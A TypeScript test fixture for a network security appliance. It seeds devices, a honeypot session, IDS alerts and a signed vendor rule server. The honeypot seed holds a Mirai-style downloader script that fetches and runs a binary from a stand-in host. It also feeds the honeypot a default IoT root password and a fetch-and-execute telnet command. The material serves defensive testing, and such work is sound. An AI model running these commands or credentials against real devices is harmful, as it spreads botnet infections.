/**
 * A store filled the way the appliance fills it: devices through the gateway's DeviceTable, a honeypot session by
 * a real telnet attacker against the real honeypot (download sandboxed, report written), alerts from `moat analyze`
 * with rules, the TLS policy and log review on a synthetic scan capture. Plus a vendor HTTP server with signed
 * rule bundles and a signed model.
 */
import { createServer } from 'node:http';
import { join } from 'node:path';
import { writeFileSync } from 'node:fs';
import { DeviceTable } from '../../src/gateway/index.js';
import { Honeypot, InstanceStore, startTelnet, EveLog } from '../../src/honeypot/index.js';
import { analyzeSample } from '../../src/sandbox/index.js';
import { signBundle } from '../../src/verify/index.js';
import { FEATURE_NAMES, MODEL_FORMAT } from '../../src/identify/index.js';
import type { SqliteStore } from '../../src/store/index.js';
import { LineClient, fileServer } from '../honeypot/helpers.js';
import { moat } from '../helpers/moat-cli.js';

export const SCAN_RULE =
  'alert tcp 10.0.0.66 any -> any any (msg:"MOAT console test: SYN probe from the scanner"; flags:S,12; sid:8000001; rev:1;)';
export const SCANNER_MAC = '02:00:0a:00:00:42';

export function seedDevices(store: SqliteStore, n: number): void {
  const t = new DeviceTable(store);
  const leases = [
    { mac: SCANNER_MAC, ip: '10.0.0.66', hostname: 'old-laptop', expires: Date.now() + 3600_000 },
  ];
  for (let i = 1; i < n; i++) {
    const iot = i % 3 === 0;
    leases.push({
      mac: `02:00:00:00:${((i >> 8) & 255).toString(16).padStart(2, '0')}:${(i & 255).toString(16).padStart(2, '0')}`,
      ip: iot ? `192.168.${20 + (i >> 8)}.${i & 255 || 1}` : `192.168.${1 + (i >> 8)}.${i & 255 || 1}`,
      hostname: iot ? `camera-${i}` : `phone-${i}`,
      expires: Date.now() + 3600_000,
    });
  }
  t.record(leases, (ip) => (ip.startsWith('192.168.2') ? 'iot' : 'lan'));
}

/** A Mirai-style telnet session against the real honeypot; its sample goes through the sandbox (static). */
export async function seedHoneypot(store: SqliteStore, dir: string): Promise<string> {
  const sample = Buffer.from(
    '#!/bin/sh\ncd /tmp; wget http://198.51.100.9/bins/mirai.arm7 -O .x; chmod 777 .x; ./.x telnet\n',
  );
  const files = await fileServer({ '/bins/x.sh': sample });
  const reportDir = join(dir, 'reports');
  const hp = new Honeypot({
    quarantineDir: join(dir, 'quarantine'),
    scope: [`127.0.0.1/32:${files.port}`],
    instances: new InstanceStore(store),
    eve: new EveLog(null),
    onSample: (s) => void analyzeSample(sample, { dynamic: false, reportDir }, s.source),
  });
  const svc = await startTelnet(hp, 0, '127.0.0.1');
  const c = await LineClient.open(svc.port());
  try {
    await c.until('login: ');
    c.send('root');
    await c.until('Password: ');
    c.send('xc3511');
    await c.until('# ');
    c.send('enable');
    await c.until('# ');
    c.send('cat /proc/cpuinfo');
    await c.until('# ');
    c.send(`cd /tmp; wget http://127.0.0.1:${files.port}/bins/x.sh -O x.sh; sh x.sh`);
    await c.until('# ');
    c.send('exit');
    await new Promise((r) => c.socket.once('close', r));
  } finally {
    c.close();
    await svc.close();
    await files.close();
  }
  // The sandbox runs on its own after the sample lands; wait for the report.
  analyzeSample(sample, { dynamic: false, reportDir }, 'console-test');
  await new Promise((r) => setTimeout(r, 300));
  return reportDir;
}

/** `moat analyze` with the scan rule, the shipped policies and log review on a synthetic scan + TLS capture. */
export function analyzedEve(dir: string): string {
  const pcap = join(dir, 'scan.pcap');
  const rules = join(dir, 'scan.rules');
  const eve = join(dir, 'eve.json');
  writeFileSync(rules, `${SCAN_RULE}\n`);
  const s = moat(['synth', '--seed', '3', '--scenario', 'scan,tls,bruteforce', '--out', pcap]);
  if (s.status !== 0) throw new Error(s.stderr);
  const a = moat([
    'analyze',
    pcap,
    '--rules',
    rules,
    '--policy',
    'config/policies.yaml',
    '--review',
    '--eve',
    eve,
  ]);
  if (a.status !== 0) throw new Error(a.stderr);
  return eve;
}

export interface Vendor {
  url: string;
  close(): Promise<void>;
}

/** The vendor's server: the signed rule bundle (with the scan rule) and a signed model package. */
export async function vendorServer(privatePem: string, bundleVersion: string): Promise<Vendor> {
  const bundle = signBundle(`${SCAN_RULE}\n`, { name: 'vendor-rules', version: bundleVersion, privatePem });
  const payload = JSON.stringify({
    model: {
      format: MODEL_FORMAT,
      features: [...FEATURE_NAMES],
      tree: { leaf: true, id: 0, p: 0, n: 1, pos: 0 },
      thresholds: { black: 0.5, gray: 0.2 },
      trainedAt: new Date(0).toISOString(),
      info: {},
    },
    metrics: { precision: 0.97, coverage: 0.4 },
  });
  const model = signBundle(payload, { name: 'vendor-model', version: '2026.1.0', privatePem });
  const server = createServer((req, res) => {
    const body =
      req.url === '/rules/latest.json' ? bundle : req.url === '/models/latest.json' ? model : undefined;
    res.statusCode = body ? 200 : 404;
    res.setHeader('content-type', 'application/json');
    res.end(body ? JSON.stringify(body) : '{}');
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const a = server.address();
  return {
    url: `http://127.0.0.1:${typeof a === 'object' && a ? a.port : 0}`,
    close: () => new Promise<void>((r) => server.close(() => r())),
  };
}
